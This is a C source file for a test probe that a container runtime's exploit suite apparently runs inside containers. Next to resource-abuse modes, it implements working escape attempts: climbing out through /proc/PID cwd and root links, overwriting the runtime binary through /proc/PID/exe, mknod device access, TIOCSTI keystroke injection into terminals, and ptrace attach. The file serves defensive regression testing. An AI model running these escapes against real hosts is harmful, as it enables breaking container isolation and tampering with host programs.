/* A tiny static program run inside test containers to look at them from
 * the inside and to misbehave on purpose (crun's tests/init.c is the model).
 *
 *   probe hog MB            allocate and touch MB megabytes, print progress
 *   probe forkbomb          fork until refused; print how many succeeded
 *   probe term-exit CODE    on SIGTERM exit CODE; print "ready" when armed
 *   probe ignore-term       ignore SIGTERM; print "ready"; wait forever
 *   probe count US          write "seq N" (N = 0, 1, ...) every US microseconds, for ever
 *   probe orphans N         leave N zombies for init (grandchildren whose
 *                           parent exited), then wait until init reaped them
 *                           and print "zombies=<count>"
 *   probe fds               list open fds (as "fds=0,1,2")
 *   probe exit CODE         exit with CODE
 *   probe kill-self SIG     kill itself with SIG
 *
 * Attacks for the exploit suite (tests/integration/test_escape*.py); each
 * prints one "key=value" line per attempt, errors as errno names:
 *   probe escape-cwd REL    print the cwd, then climb "../" from it and read
 *                           REL (a host path without its leading "/"):
 *                           "cwd=PATH" and "read=CONTENT" or "read=ERRNO"
 *   probe scan SECS REL HOSTIDS BIN
 *                           for SECS seconds, open /proc/P/{cwd,root,exe,
 *                           fd/N} of every other visible process; a
 *                           directory reached is climbed out of like
 *                           escape-cwd; HOSTIDS ("dev:ino,...") are the
 *                           host's directories ("dev:0": anything on that
 *                           filesystem, like the host's devpts), BIN
 *                           ("dev:ino") the berth binary. Prints
 *                           "scan-start", then "ESCAPE ...", "HOSTDIR ...",
 *                           "HOSTDEV ...", "BERTHBIN ..." lines for each hit
 *                           and a summary "opened=N pids=N hits=N"
 *   probe exe-attack SECS BIN VICTIM
 *                           for SECS seconds, open /proc/P/exe of every
 *                           other visible process O_WRONLY, O_RDWR, and
 *                           O_RDONLY then reopen it through /proc/self/fd
 *                           for writing (now, and again at the end, once
 *                           the process may be gone); writes only to the
 *                           berth binary (BIN "dev:ino") and to the file
 *                           VICTIM (a program the test runs, to show that
 *                           the attack works); summary "exe-opened=N
 *                           berth-handles=N berth-writes=N
 *                           victim-handles=N victim-writes=N"
 *   probe mknod PATH b|c MAJ MIN
 *                           mknod, then open and read: "mknod=..
 *                           open=.. read=.."
 *   probe read PATH         open and read 16 bytes: "open=.. read=N"
 *   probe syscalls          unshare(CLONE_NEWUSER), add_key, request_key,
 *                           keyctl, raw AF_PACKET and AF_INET sockets, a
 *                           TCP socket: "NAME=ok" or "NAME=ERRNO"
 *   probe tiocsti HEX       push the decoded bytes into every terminal it
 *                           can reach (fds 0-2, /dev/tty, and after setsid
 *                           + TIOCSCTTY in a child): "tiocsti-WHERE=.."
 *   probe tty-info          "sid=N pgid=N pid=N tty_nr=N devtty=.. fd0=.."
 *                           and fd0_dev=MAJ:MIN (the device of fd 0's fs)
 *   probe ptrace PID        PTRACE_ATTACH PID, wait, detach: "ptrace=.."
 *   probe status PID        the Cap*, NoNewPrivs, Seccomp lines of
 *                           /proc/PID/status, then those of /proc/self
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t exit_code = -1;

static void on_term(int sig)
{
    (void)sig;
    _exit(exit_code);
}

static int count_zombies(void)
{
    DIR *d = opendir("/proc");
    struct dirent *de;
    int n = 0;

    if (!d)
        return -1;
    while ((de = readdir(d))) {
        char path[300], buf[512];
        FILE *f;
        if (de->d_name[0] < '0' || de->d_name[0] > '9')
            continue;
        snprintf(path, sizeof(path), "/proc/%s/stat", de->d_name);
        f = fopen(path, "r");
        if (!f)
            continue;
        if (fgets(buf, sizeof(buf), f)) {
            char *p = strrchr(buf, ')');
            if (p && p[1] == ' ' && p[2] == 'Z')
                n++;
        }
        fclose(f);
    }
    closedir(d);
    return n;
}

/* --- attacks ------------------------------------------------------------ */

static const char *ename(int e)
{
    static char buf[32];
    const char *name = strerrorname_np(e); /* "EPERM" (glibc 2.32) */

    if (name)
        return name;
    snprintf(buf, sizeof(buf), "errno%d", e);
    return buf;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* "../" 64 times, then REL: from a directory inside our root this stays
 * inside (".." of the root is the root); from one outside it reaches the
 * host's "/" and then REL */
static char *climb(const char *rel)
{
    static char path[4096];
    size_t n = 0;

    for (int i = 0; i < 64; i++)
        n += (size_t)snprintf(path + n, sizeof(path) - n, "../");
    snprintf(path + n, sizeof(path) - n, "%s", rel);
    return path;
}

/* read up to 255 bytes of REL climbed to from DIRFD; 0 when it opened */
static int climb_read(int dirfd, const char *rel, char *out, size_t size)
{
    int fd = openat(dirfd, climb(rel), O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    ssize_t n;

    if (fd < 0)
        return -errno;
    n = read(fd, out, size - 1);
    close(fd);
    out[n > 0 ? n : 0] = 0;
    for (char *p = out; *p; p++)
        if (*p == '\n')
            *p = ' ';
    return 0;
}

static int escape_cwd(const char *rel)
{
    char buf[4096], data[256];
    ssize_t n = readlink("/proc/self/cwd", buf, sizeof(buf) - 1);
    int r;

    buf[n > 0 ? n : 0] = 0;
    printf("cwd=%s\n", n > 0 ? buf : ename(errno));
    r = climb_read(AT_FDCWD, rel, data, sizeof(data));
    printf("read=%s\n", r == 0 ? data : ename(-r));
    return 0;
}

struct devino {
    unsigned long long dev, ino;
};

static int parse_ids(const char *s, struct devino *ids, int max)
{
    int n = 0;

    while (s && *s && n < max) {
        char *end;
        ids[n].dev = strtoull(s, &end, 10);
        if (*end != ':')
            break;
        ids[n].ino = strtoull(end + 1, &end, 10);
        n++;
        s = *end == ',' ? end + 1 : NULL;
    }
    return n;
}

static int is_id(const struct stat *st, const struct devino *ids, int n)
{
    for (int i = 0; i < n; i++)
        if ((unsigned long long)st->st_dev == ids[i].dev &&
            (unsigned long long)st->st_ino == ids[i].ino)
            return 1;
    return 0;
}

/* an entry "dev:0" stands for every inode of that filesystem (the host's
 * devpts: its terminals) */
static int is_dev(const struct stat *st, const struct devino *ids, int n)
{
    for (int i = 0; i < n; i++)
        if (ids[i].ino == 0 && (unsigned long long)st->st_dev == ids[i].dev)
            return 1;
    return 0;
}

static struct {
    const char *rel;
    struct devino host[16], bin;
    int nhost;
    long opened, hits;
    int pids[4096], npids;
} sc;

static void seen_pid(int pid)
{
    for (int i = 0; i < sc.npids; i++)
        if (sc.pids[i] == pid)
            return;
    if (sc.npids < 4096)
        sc.pids[sc.npids++] = pid;
}

static void scan_one(int pid, const char *path)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    struct stat st;
    char data[256];

    if (fd < 0)
        return;
    sc.opened++;
    seen_pid(pid);
    if (fstat(fd, &st) == 0) {
        if (S_ISDIR(st.st_mode) && climb_read(fd, sc.rel, data, sizeof(data)) == 0) {
            printf("ESCAPE %s read=%s\n", path, data);
            sc.hits++;
        }
        if (S_ISDIR(st.st_mode) && is_id(&st, sc.host, sc.nhost)) {
            printf("HOSTDIR %s %llu:%llu\n", path, (unsigned long long)st.st_dev,
                   (unsigned long long)st.st_ino);
            sc.hits++;
        }
        if (!S_ISDIR(st.st_mode) && is_dev(&st, sc.host, sc.nhost)) {
            printf("HOSTDEV %s %u:%u\n", path, major(st.st_dev), minor(st.st_dev));
            sc.hits++;
        }
        if (S_ISREG(st.st_mode) && is_id(&st, &sc.bin, 1)) {
            printf("BERTHBIN %s\n", path);
            sc.hits++;
        }
    }
    close(fd);
}

static void scan_pid(int self, int pid)
{
    static const char *const links[] = {"cwd", "root", "exe"};
    char path[320];
    DIR *d;
    struct dirent *de;

    if (pid == self)
        return;
    for (size_t i = 0; i < 3; i++) {
        snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
        scan_one(pid, path);
    }
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    d = opendir(path);
    if (!d)
        return;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, de->d_name);
        scan_one(pid, path);
    }
    closedir(d);
}

/* calls fn(self, pid) for every visible pid */
static void each_pid(void (*fn)(int, int))
{
    DIR *d = opendir("/proc");
    struct dirent *de;
    int self = getpid();

    if (!d)
        return;
    while ((de = readdir(d)))
        if (de->d_name[0] >= '1' && de->d_name[0] <= '9')
            fn(self, atoi(de->d_name));
    closedir(d);
}

static int scan(double secs, const char *rel, const char *host, const char *bin)
{
    double end = now() + secs;
    long rounds = 0;

    sc.rel = rel;
    sc.nhost = parse_ids(host, sc.host, 16);
    parse_ids(bin, &sc.bin, 1);
    printf("scan-start\n");
    while (now() < end) {
        each_pid(scan_pid);
        rounds++;
    }
    printf("opened=%ld pids=%d hits=%ld rounds=%ld\n", sc.opened, sc.npids, sc.hits, rounds);
    printf("scan-done\n");
    return 0;
}

static struct {
    struct devino victim;
    long opened, handles, writes, vhandles, vwrites;
    int keep[256], nkeep;
} ex;

/* writes go only to the berth binary or to the victim the test planted,
 * never to another program of the image */
static void try_write(const char *what, int fd, int victim)
{
    static const char junk[] = "#!/bin/sh\necho overwritten-from-the-container\n";

    if (write(fd, junk, sizeof(junk) - 1) > 0) {
        printf("WROTE %s%s\n", victim ? "the victim " : "the berth binary ", what);
        if (victim)
            ex.vwrites++;
        else
            ex.writes++;
    }
}

static void reopen_write(int fd, const char *what, int victim)
{
    char path[64];
    int w;

    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (int flags = O_WRONLY; flags; flags = flags == O_WRONLY ? O_RDWR : 0) {
        w = open(path, flags | O_CLOEXEC);
        if (w >= 0) {
            if (!victim)
                printf("REOPENED %s for writing\n", what);
            try_write(what, w, victim);
            close(w);
        }
    }
}

static void keep_fd(int fd, int victim)
{
    if (ex.nkeep < 256 && (!victim || ex.vhandles == 1))
        ex.keep[ex.nkeep++] = victim ? -fd - 1 : fd;
    else
        close(fd);
}

static void exe_pid(int self, int pid)
{
    char path[64];
    struct stat st;
    int fd, bin, victim;

    if (pid == self)
        return;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    for (int flags = O_WRONLY; flags; flags = flags == O_WRONLY ? O_RDWR : 0) {
        fd = open(path, flags | O_CLOEXEC);
        if (fd >= 0) {
            printf("OPENED-FOR-WRITE %s\n", path);
            if (fstat(fd, &st) == 0 && is_id(&st, &sc.bin, 1))
                try_write(path, fd, 0);
            close(fd);
        }
    }
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ex.opened++;
    if (fstat(fd, &st) < 0) {
        close(fd);
        return;
    }
    bin = is_id(&st, &sc.bin, 1);
    victim = is_id(&st, &ex.victim, 1);
    if (!bin && !victim) {
        close(fd);
        return;
    }
    if (bin) {
        ex.handles++;
        printf("BERTHBIN %s\n", path);
    } else {
        ex.vhandles++;
    }
    reopen_write(fd, path, victim);
    keep_fd(fd, victim); /* and again once the process is gone */
}

static int exe_attack(double secs, const char *bin, const char *victim)
{
    double end = now() + secs;
    struct stat st;

    parse_ids(bin, &sc.bin, 1);
    if (stat(victim, &st) == 0)
        ex.victim = (struct devino){(unsigned long long)st.st_dev, (unsigned long long)st.st_ino};
    printf("scan-start\n");
    while (now() < end)
        each_pid(exe_pid);
    for (int i = 0; i < ex.nkeep; i++) {
        int v = ex.keep[i] < 0, fd = v ? -ex.keep[i] - 1 : ex.keep[i];
        reopen_write(fd, "a kept handle", v);
        close(fd);
    }
    printf("exe-opened=%ld berth-handles=%ld berth-writes=%ld victim-handles=%ld "
           "victim-writes=%ld\n",
           ex.opened, ex.handles, ex.writes, ex.vhandles, ex.vwrites);
    printf("scan-done\n");
    return 0;
}

static int do_mknod(const char *path, const char *type, int maj, int min)
{
    mode_t kind = type[0] == 'b' ? S_IFBLK : S_IFCHR;
    char buf[512];
    int fd;
    ssize_t n;

    unlink(path);
    if (mknod(path, kind | 0600, makedev(maj, min)) < 0) {
        printf("mknod=%s\n", ename(errno));
        return 0;
    }
    printf("mknod=ok\n");
    fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        printf("open=%s\n", ename(errno));
        return 0;
    }
    printf("open=ok\n");
    n = read(fd, buf, sizeof(buf));
    if (n < 0)
        printf("read=%s\n", ename(errno));
    else
        printf("read=%zd\n", n);
    close(fd);
    return 0;
}

static int do_read(const char *path)
{
    char buf[16];
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    ssize_t n;

    if (fd < 0) {
        printf("open=%s\n", ename(errno));
        return 0;
    }
    n = read(fd, buf, sizeof(buf));
    if (n < 0)
        printf("open=ok read=%s\n", ename(errno));
    else
        printf("open=ok read=%zd\n", n);
    close(fd);
    return 0;
}

static void result(const char *name, long r)
{
    printf("%s=%s\n", name, r < 0 ? ename(errno) : "ok");
}

static int syscalls(void)
{
    long r;
    pid_t p;
    int status;

    /* in a child: a success would change this process's namespaces */
    p = fork();
    if (p == 0)
        _exit(unshare(CLONE_NEWUSER) < 0 ? errno : 0);
    waitpid(p, &status, 0);
    errno = WEXITSTATUS(status);
    result("unshare-user", errno ? -1 : 0);
    /* KEY_SPEC_PROCESS_KEYRING (-2): gone with this process */
    r = syscall(SYS_add_key, "user", "berth-escape-test", "x", 1, -2);
    result("add_key", r);
    r = syscall(SYS_request_key, "user", "berth-escape-test", NULL, -2);
    result("request_key", r < 0 && errno == ENOKEY ? 0 : r);
    r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -2, 1);
    result("keyctl", r);
    r = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    result("packet-raw", r);
    r = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
    result("inet-raw", r);
    r = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    result("inet-stream", r);
    return 0;
}

static int unhex(const char *hex, char *out, size_t size)
{
    size_t n = 0;

    for (; hex[0] && hex[1] && n + 1 < size; hex += 2) {
        unsigned v;
        sscanf(hex, "%2x", &v);
        out[n++] = (char)v;
    }
    out[n] = 0;
    return (int)n;
}

static int sti(int fd, const char *text)
{
    for (const char *p = text; *p; p++)
        if (ioctl(fd, TIOCSTI, p) < 0)
            return -1;
    return 0;
}

static int tiocsti(const char *hex)
{
    char text[512], name[32];
    int fd, pfd[2];
    pid_t p;

    unhex(hex, text, sizeof(text));
    for (int i = 0; i < 3; i++) {
        snprintf(name, sizeof(name), "tiocsti-fd%d", i);
        result(name, sti(i, text));
    }
    fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    result("open-devtty", fd);
    if (fd >= 0) {
        result("tiocsti-devtty", sti(fd, text));
        close(fd);
    }
    /* take a standard stream as the controlling terminal of a new session */
    if (pipe(pfd) < 0)
        return 1;
    p = fork();
    if (p == 0) {
        char line[256];
        int n = 0;
        setsid();
        for (int i = 0; i < 3; i++) {
            int r = ioctl(i, TIOCSCTTY, 0);
            n += snprintf(line + n, sizeof(line) - (size_t)n, "tiocsctty-fd%d=%s\n", i,
                          r < 0 ? ename(errno) : "ok");
            if (r == 0) {
                r = sti(i, text);
                n += snprintf(line + n, sizeof(line) - (size_t)n, "tiocsti-ctty-fd%d=%s\n", i,
                              r < 0 ? ename(errno) : "ok");
            }
        }
        if (write(pfd[1], line, (size_t)n) < 0)
            _exit(1);
        _exit(0);
    }
    close(pfd[1]);
    for (ssize_t n; (n = read(pfd[0], text, sizeof(text))) > 0;)
        fwrite(text, 1, (size_t)n, stdout);
    waitpid(p, NULL, 0);
    return 0;
}

static int tty_info(void)
{
    char buf[1024], link[256];
    FILE *f = fopen("/proc/self/stat", "r");
    int tty_nr = -1, fd;
    struct stat st;
    ssize_t n;

    if (f && fgets(buf, sizeof(buf), f)) {
        char *p = strrchr(buf, ')');
        /* after "pid (comm)": state ppid pgrp session tty_nr */
        if (p)
            sscanf(p + 2, "%*c %*d %*d %*d %d", &tty_nr);
    }
    if (f)
        fclose(f);
    printf("pid=%d sid=%d pgid=%d tty_nr=%d\n", getpid(), getsid(0), getpgid(0), tty_nr);
    fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    printf("devtty=%s\n", fd < 0 ? ename(errno) : "ok");
    if (fd >= 0)
        close(fd);
    n = readlink("/proc/self/fd/0", link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = 0;
    printf("fd0=%s isatty=%d\n", link, isatty(0));
    if (fstat(0, &st) == 0)
        printf("fd0_dev=%u:%u\n", major(st.st_dev), minor(st.st_dev));
    if (stat("/dev/pts/ptmx", &st) == 0)
        printf("pts_dev=%u:%u\n", major(st.st_dev), minor(st.st_dev));
    return 0;
}

static int do_ptrace(int pid)
{
    int status;

    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
        printf("ptrace=%s\n", ename(errno));
        return 0;
    }
    waitpid(pid, &status, __WALL);
    printf("ptrace=ok\n");
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 0;
}

static void status_lines(const char *who, const char *path)
{
    char line[256];
    FILE *f = fopen(path, "r");

    if (!f) {
        printf("%s %s\n", who, ename(errno));
        return;
    }
    while (fgets(line, sizeof(line), f))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
            !strncmp(line, "Seccomp:", 8))
            printf("%s %s", who, line);
    fclose(f);
}

static int do_status(const char *pid)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    status_lines("other", path);
    status_lines("self", "/proc/self/status");
    return 0;
}

static int attack(int argc, char **argv)
{
    const char *cmd = argv[1];

    if (!strcmp(cmd, "escape-cwd") && argc == 3)
        return escape_cwd(argv[2]);
    if (!strcmp(cmd, "scan") && argc == 6)
        return scan(atof(argv[2]), argv[3], argv[4], argv[5]);
    if (!strcmp(cmd, "exe-attack") && argc == 5)
        return exe_attack(atof(argv[2]), argv[3], argv[4]);
    if (!strcmp(cmd, "mknod") && argc == 6)
        return do_mknod(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]));
    if (!strcmp(cmd, "read") && argc == 3)
        return do_read(argv[2]);
    if (!strcmp(cmd, "syscalls"))
        return syscalls();
    if (!strcmp(cmd, "tiocsti") && argc == 3)
        return tiocsti(argv[2]);
    if (!strcmp(cmd, "tty-info"))
        return tty_info();
    if (!strcmp(cmd, "ptrace") && argc == 3)
        return do_ptrace(atoi(argv[2]));
    if (!strcmp(cmd, "status") && argc == 3)
        return do_status(argv[2]);
    return -1;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "";
    int arg = argc > 2 ? atoi(argv[2]) : 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(cmd, "hog")) {
        for (int i = 0; i < arg; i++) {
            char *p = malloc(1 << 20);
            if (!p)
                return 2;
            memset(p, i & 0xff, 1 << 20);
            if (i % 16 == 0)
                printf("allocated %d MB\n", i);
        }
        printf("survived %d MB\n", arg);
        return 0;
    }
    if (!strcmp(cmd, "forkbomb")) {
        int n = 0;
        for (;;) {
            pid_t p = fork();
            if (p < 0)
                break;
            if (p == 0) {
                pause();
                _exit(0);
            }
            if (++n >= 100000)
                break;
        }
        printf("forked=%d errno=%s\n", n, strerror(errno));
        return 0;
    }
    if (!strcmp(cmd, "count")) {
        /* "seq N" every ARG microseconds, one write(2) each, for ever: a
         * service under load whose output must survive keeper hand-overs */
        struct timespec next;
        char line[32];
        clock_gettime(CLOCK_MONOTONIC, &next);
        for (unsigned long n = 0;; n++) {
            int len = snprintf(line, sizeof(line), "seq %lu\n", n);
            if (write(1, line, (size_t)len) != len)
                return 3;
            next.tv_nsec += (long)(arg > 0 ? arg : 1000) * 1000;
            while (next.tv_nsec >= 1000000000L) {
                next.tv_nsec -= 1000000000L;
                next.tv_sec++;
            }
            clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
        }
    }
    if (!strcmp(cmd, "term-exit") || !strcmp(cmd, "ignore-term")) {
        exit_code = arg;
        signal(SIGTERM, cmd[0] == 't' ? on_term : SIG_IGN);
        printf("ready\n");
        for (;;)
            pause();
    }
    if (!strcmp(cmd, "orphans")) {
        for (int i = 0; i < arg; i++) {
            pid_t p = fork();
            if (p == 0) {
                if (fork() == 0)
                    _exit(0); /* grandchild: becomes init's zombie */
                _exit(0);     /* child: exits first, orphaning it */
            }
            waitpid(p, NULL, 0);
        }
        /* init reaps asynchronously: watch /proc until it has (5 s max) */
        int z = count_zombies();
        for (int i = 0; i < 500 && z > 0; i++) {
            nanosleep(&(struct timespec){0, 10 * 1000 * 1000}, NULL);
            z = count_zombies();
        }
        printf("zombies=%d\n", z);
        return 0;
    }
    if (!strcmp(cmd, "fds")) {
        DIR *d = opendir("/proc/self/fd");
        struct dirent *de;
        int self = dirfd(d);
        printf("fds=");
        const char *sep = "";
        while ((de = readdir(d))) {
            if (de->d_name[0] == '.' || atoi(de->d_name) == self)
                continue;
            printf("%s%s", sep, de->d_name);
            sep = ",";
        }
        printf("\n");
        return 0;
    }
    if (!strcmp(cmd, "exit"))
        return arg;
    if (argc > 1) {
        int r = attack(argc, argv);
        if (r >= 0)
            return r;
    }
    if (!strcmp(cmd, "kill-self")) {
        signal(arg, SIG_DFL);
        kill(getpid(), arg);
        pause();
    }
    fprintf(stderr, "probe: unknown command '%s'\n", cmd);
    return 64;
}
